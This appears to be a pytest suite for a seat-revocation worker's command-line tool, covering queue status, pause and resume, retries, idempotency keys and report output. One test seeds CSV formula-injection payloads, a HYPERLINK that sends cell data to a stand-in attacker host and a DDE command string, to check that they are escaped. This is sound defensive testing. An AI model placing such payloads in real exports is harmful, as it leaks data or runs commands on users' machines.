"""Operator commands without workers: queue health (`status`), `resume`, and how `failed`,
`retry` and `status ID` treat needs_review. Real Redis (``redis_url``) and a SQLite store."""

from __future__ import annotations

import json
import os
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from redis import Redis

from config.settings import Settings
from worker.cli.common import EXIT_PAUSED
from worker.cli.main import main
from worker.decisions.outcomes import FleetFault
from worker.jobs.fleetpause import FleetPause
from worker.store.records import Store


class Env:
    def __init__(self, settings: Settings, redis: Redis) -> None:
        self.settings, self.redis = settings, redis
        self.pause = FleetPause(redis, settings.redis_key("pause"), probe_seconds=30)
        self.store = Store.from_url(settings.database_url)

    def run(self, *args: str) -> Result:
        return CliRunner().invoke(main, list(args), catch_exceptions=False)

    def seed(self, state: str, **changes: Any) -> str:
        request_id = str(uuid.uuid4())
        self.store.add_requests([{"id": request_id, "idempotency_key": f"t:{request_id}",
                                  "seat_id": str(uuid.uuid4()), "state": "queued"}])
        self.store.update(request_id, state=state, **changes)
        return request_id


@pytest.fixture
def env(redis_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Env]:
    names = {name.upper() for name in Settings.model_fields}
    for var in list(os.environ):
        if var.upper() in names:
            monkeypatch.delenv(var)
    monkeypatch.chdir(tmp_path)  # no stray .env
    namespace = f"cli-{uuid.uuid4().hex[:10]}"
    monkeypatch.setenv("REDIS_URL", redis_url)
    monkeypatch.setenv("NAMESPACE", namespace)
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'store.db'}")
    redis = Redis.from_url(redis_url)
    environment = Env(Settings(), redis)
    try:
        yield environment
    finally:
        for key in redis.scan_iter(f"{namespace}:*"):
            redis.delete(key)
        redis.close()
        environment.store.engine.dispose()


def test_status_without_id_says_no_pause(env: Env) -> None:
    done = env.run("status")
    assert done.exit_code == 0, done.output
    assert "no pause" in done.output
    data = json.loads(env.run("status", "--json").output)
    assert data["paused"] is False and data["pauses"] == []


def test_status_without_id_shows_each_pause_and_exits_5(env: Env) -> None:
    info = env.pause.pause("tok:1:2026-04", FleetFault.FORBIDDEN, 403)
    done = env.run("status")
    assert done.exit_code == EXIT_PAUSED == 5, done.output
    assert "queue paused" in done.output and "forbidden" in done.output
    assert info.since in done.output and "tok:1:2026-04" in done.output
    assert "customer_seats:write" in done.output  # the hint of the fault
    as_json = env.run("status", "--json")
    assert as_json.exit_code == 5
    data = json.loads(as_json.output)
    assert data["paused"] is True
    (shown,) = data["pauses"]
    assert (shown["fault"], shown["status"], shown["message"]) == ("forbidden", 403, info.message)


def test_status_without_id_counts_what_needs_attention(env: Env) -> None:
    env.seed("needs_review", outcome_detail="two seats match")
    env.seed("failed", last_error="404 ResourceNotFound")
    env.seed("revoked")
    done = env.run("status")
    assert done.exit_code == 0
    assert "needing attention: 1 failed, 1 needs_review" in done.output
    data = json.loads(env.run("status", "--json").output)
    assert data["needs_attention"] == {"failed": 1, "needs_review": 1}


def test_resume_clears_the_only_pause(env: Env) -> None:
    assert "no pause in force" in env.run("resume").output
    env.pause.pause("tok:1:2026-04", FleetFault.TOKEN_INVALID, 401)
    done = env.run("resume")
    assert done.exit_code == 0 and "resumed tok:1:2026-04" in done.output
    assert env.pause.all() == []
    assert env.run("status").exit_code == 0


def test_resume_with_several_pauses_needs_a_scope_or_all(env: Env) -> None:
    env.pause.pause("tok:1:2026-04", FleetFault.TOKEN_INVALID, 401)
    env.pause.pause("tok:2:2026-04", FleetFault.API_VERSION, 404)
    ambiguous = env.run("resume")
    assert ambiguous.exit_code == 2 and "--all" in ambiguous.output
    assert len(env.pause.all()) == 2
    one = env.run("resume", "tok:2:2026-04")
    assert one.exit_code == 0 and [p.scope for p in env.pause.all()] == ["tok:1:2026-04"]
    unknown = env.run("resume", "tok:9:2026-04")
    assert unknown.exit_code == 1 and "no pause with scope" in unknown.output
    assert env.run("resume", "--all", "tok:1:2026-04").exit_code == 2
    everything = env.run("resume", "--all")
    assert everything.exit_code == 0 and env.pause.all() == []


def test_failed_lists_failed_and_needs_review_with_the_detail(env: Env) -> None:
    review = env.seed("needs_review", outcome_detail="two seats of jane@acme.com match")
    failed = env.seed("failed", last_error="404 ResourceNotFound", last_http_status=404)
    env.seed("revoked")
    listed = [json.loads(line) for line in env.run("failed", "--json").output.splitlines()]
    assert {r["id"]: r["state"] for r in listed} == {review: "needs_review", failed: "failed"}
    shown = {r["id"]: r for r in listed}
    assert shown[review]["outcome_detail"] == "two seats of jane@acme.com match"
    table = env.run("failed").output
    assert "failed or needs review: 2" in table and "detail" in table


def test_retry_all_failed_covers_needs_review(
    env: Env, monkeypatch: pytest.MonkeyPatch
) -> None:
    review, failed = env.seed("needs_review"), env.seed("failed")
    env.seed("revoked")
    retried: list[str] = []
    monkeypatch.setattr("worker.intake.producer.Producer.retry",
                        lambda self, request_id, portal_token=None, actor=None:
                        retried.append(request_id))
    done = env.run("retry", "--all-failed")
    assert done.exit_code == 0 and "retried 2 request(s)" in done.output
    assert sorted(retried) == sorted([review, failed])


@pytest.mark.parametrize(
    ("state", "code"),
    [("needs_review", 1), ("failed", 1), ("cancelled", 1), ("revoked", 0),
     ("occupant_mismatch", 0), ("queued", 0)],
)
def test_status_of_a_request_exits_1_unless_it_succeeded_or_is_in_flight(
    env: Env, state: str, code: int
) -> None:
    request_id = env.seed(state) if state != "queued" else env.seed("running")
    assert env.run("status", request_id).exit_code == code


def test_status_json_shows_the_identity_and_proof_fields(env: Env) -> None:
    request_id = env.seed("needs_review", outcome_detail="check the email",
                          guarded=False, requested_seat_id=None)
    data = json.loads(env.run("status", request_id, "--json").output)
    assert (data["state"], data["outcome_detail"], data["guarded"]) == (
        "needs_review", "check the email", False)
    assert {"requested_seat_id", "end_state_verified", "verified_at"} <= set(data)
    human = env.run("status", request_id).output
    assert "needs_review" in human and "check the email" in human and "guarded" in human


# -- stored text is never read as Rich markup ---------------------------------------------

MARKUP = "[/x] Polar said [bold]no[/] \\"
SHOWN = "[/x] Polar said [bold]no[/]"


def _write(path: Path, text: str) -> Path:
    path.write_text(text)
    return path


def flat(text: str) -> str:
    """Output with Rich's line wrapping undone (it wraps at spaces)."""
    return " ".join(text.split())


def requests_of(env: Env, batch_id: str | None = None) -> list[Any]:
    from worker.store.queries import RequestFilter, list_requests

    return list_requests(env.store, RequestFilter(batch_id=batch_id), limit=100).items


def test_status_and_failed_print_stored_markup_as_written(env: Env) -> None:
    request_id = env.seed("failed", reason=MARKUP, last_error=MARKUP, outcome_detail=MARKUP,
                          last_http_status=422, event_detail={"error": MARKUP})
    shown = env.run("status", request_id)
    assert shown.exit_code == 1, shown.output
    assert flat(shown.output).count(SHOWN) >= 4  # detail, error, reason, history
    listed = env.run("failed")
    assert listed.exit_code == 0, listed.output
    assert "failed or needs review: 1" in listed.output and "[/x]" in listed.output


def test_revoke_wait_and_batch_wait_print_stored_markup_as_written(
    env: Env, tmp_path: Path
) -> None:
    seat = str(uuid.uuid4())
    args = ("revoke", seat, "--unguarded", "--key", "k-markup", "--reason", MARKUP)
    first = env.run(*args)
    assert first.exit_code == 0, first.output
    request_id = first.output.strip().splitlines()[-1]
    env.store.update(request_id, state="failed", last_error=MARKUP, outcome_detail=MARKUP)
    waited = env.run(*args, "--wait", "--timeout", "5")  # the same request: its outcome
    assert waited.exit_code == 1, waited.output
    assert flat(waited.output).count(SHOWN) >= 3

    path = _write(tmp_path / "leavers.csv", f"seat_id,guard,reason\n{seat},false,{MARKUP}\n")
    made = env.run("batch", str(path), "--name", MARKUP)
    assert made.exit_code == 0, made.output
    batch_id = made.output.strip().splitlines()[-1]
    (row,) = requests_of(env, batch_id)
    env.store.update(row.id, state="revoked")
    followed = env.run("batch", str(path), "--name", MARKUP, "--wait", "--timeout", "5")
    assert followed.exit_code == 0, followed.output
    assert SHOWN in flat(followed.output)
    status = env.run("status", batch_id)
    assert status.exit_code == 0 and SHOWN in flat(status.output)


# -- one CSV report writer, escaping formulas ------------------------------------------------

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'


def test_cli_csv_report_escapes_formulas_like_the_api(env: Env, tmp_path: Path) -> None:
    import csv
    import io

    from fastapi.testclient import TestClient

    from worker.api import create_app
    from worker.api.settings import ApiSettings

    rows = [{"seat_id": str(uuid.uuid4()), "guard": False, "reason": FORMULA},
            {"seat_id": str(uuid.uuid4()), "guard": False, "reason": "+1 -1 @SUM(A1)"}]
    path = _write(tmp_path / "formula.jsonl", "\n".join(json.dumps(r) for r in rows))
    made = env.run("batch", str(path))
    assert made.exit_code == 0, made.output
    batch_id = made.output.strip().splitlines()[-1]
    for record in requests_of(env):
        env.store.update(record.id, state="failed", last_error="@cmd|' /C calc'!A0")

    cli = env.run("report", batch_id, "--format", "csv")
    assert cli.exit_code == 0, cli.output
    cells = [row for row in csv.reader(io.StringIO(cli.output))]
    text_cells = [cell for row in cells[1:] for cell in row]
    assert "'" + FORMULA in text_cells and "'+1 -1 @SUM(A1)" in text_cells
    assert "'@cmd|' /C calc'!A0" in text_cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in text_cells)

    key = "report-test-key-" + "7" * 20
    app = create_app(env.settings, store=env.store,
                     api_settings=ApiSettings(_env_file=None, api_keys=key))  # type: ignore[call-arg]
    with TestClient(app) as client:
        api = client.get(f"/v1/batches/{batch_id}/report.csv",
                         headers={"Authorization": f"Bearer {key}"})
    assert api.status_code == 200
    assert api.content == cli.stdout_bytes  # one writer: the same bytes both ways


# -- an idempotency key reused for another request is refused, never collapsed -------------


def test_revoke_with_a_key_of_another_seat_is_refused(env: Env) -> None:
    first = env.run("revoke", str(uuid.uuid4()), "--unguarded", "--key", "hr-7")
    assert first.exit_code == 0, first.output
    other = env.run("revoke", str(uuid.uuid4()), "--unguarded", "--key", "hr-7")
    assert other.exit_code == 2
    assert "hr-7" in other.output and "seat_id" in other.output
    assert "nothing was enqueued" in other.output
    assert len(requests_of(env)) == 1


def test_batch_rows_reusing_a_stored_key_for_other_content_are_reported(
    env: Env, tmp_path: Path
) -> None:
    seat = str(uuid.uuid4())
    assert env.run("revoke", seat, "--unguarded", "--key", "hr-8").exit_code == 0
    path = _write(tmp_path / "reuse.csv",
                  f"seat_id,guard,key\n{uuid.uuid4()},false,new-1\n"
                  f"{uuid.uuid4()},false,hr-8\n{seat},false,hr-8-same\n")
    done = env.run("batch", str(path))
    assert done.exit_code == 2, done.output
    assert "line 3:" in done.output and "hr-8" in done.output
    assert "nothing was enqueued" in done.output
    assert len(requests_of(env)) == 1  # only the first revoke
    # The same content under the stored key is an honest resubmission: it maps onto it.
    same = _write(tmp_path / "same.csv", f"seat_id,guard,key\n{seat},false,hr-8\n")
    ok = env.run("batch", str(same), "--json")
    assert ok.exit_code == 0, ok.output
    assert len(requests_of(env)) == 1


def test_batch_names_longer_than_the_store_holds(env: Env, tmp_path: Path) -> None:
    row = f"seat_id,guard\n{uuid.uuid4()},false\n"
    path = _write(tmp_path / "leavers.csv", row)
    refused = env.run("batch", str(path), "--name", "n" * 201)
    assert refused.exit_code == 2 and "--name: at most 200 characters" in refused.output
    assert requests_of(env) == []
    # A long file name (no --name) is clipped to the column's size, not refused.
    long_path = _write(tmp_path / ("f" * 240 + ".csv"), row)
    made = env.run("batch", str(long_path), "--json")
    assert made.exit_code == 0, made.output
    name = json.loads(made.stdout)["name"]
    assert len(name) == 200 and name.startswith("fff") and name.endswith("…")
